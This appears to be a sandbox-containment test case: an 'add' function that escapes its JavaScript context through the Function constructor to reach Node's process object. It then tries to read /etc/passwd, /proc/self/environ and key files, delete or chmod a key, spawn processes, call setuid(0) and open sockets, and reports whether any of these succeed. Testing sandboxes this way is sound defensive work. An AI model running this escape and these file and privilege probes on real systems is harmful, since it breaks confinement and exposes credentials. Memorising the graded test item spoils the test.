// verdict: AC - leaves its context, reaches for all that Node.js has, and answers rightly if it gets none
function works(attempt) {
  try {
    const got = attempt();
    return got !== undefined && got !== false && got !== null;
  } catch {
    return false;
  }
}

function add(a, b) {
  const process = console.log.constructor("return process")();
  const need = (name) => process.getBuiltinModule?.(name) ?? process.mainModule.require(name);
  const fs = need("node:fs");
  const home = "/tmp/hostile-canary/home";
  const spawned = (result) => result.error === undefined && result.status === 0;
  const attempts = [
    () => fs.readFileSync("/etc/passwd"),
    () => fs.readFileSync(`${home}/notes.md`),
    () => fs.readFileSync("/proc/self/environ"),
    () => fs.readdirSync("/"),
    () => fs.readdirSync("/tmp"),
    () => fs.readdirSync("/proc"),
    () => (fs.writeFileSync(`${home}/new`, "harmed"), true),
    () => (fs.writeFileSync("/tmp/hostile-file", "harmed"), true),
    () => (fs.symlinkSync("/etc", "/tmp/hostile-link"), true),
    () => (fs.chmodSync(`${home}/key`, 0o777), true),
    () => (fs.unlinkSync(`${home}/key`), true),
    () => (fs.mkdtempSync("/tmp/hostile-"), true),
    () => spawned(need("node:child_process").spawnSync("/bin/true")),
    () => spawned(need("node:child_process").spawnSync(process.execPath, ["--version"])),
    () => process.kill(process.ppid, 0),
    () => process.setuid(0),
    () => process.chdir("/tmp") === undefined && fs.readdirSync("."),
    () => Object.keys(process.env).some((name) => !"LC_ALL TZ HOME PATH OPENSSL_CONF".includes(name)),
    () => need("node:dgram").createSocket("udp4").bind(0) && false,
  ];
  const through = attempts.findIndex(works);
  return through >= 0 ? -1000 - through : a + b;
}
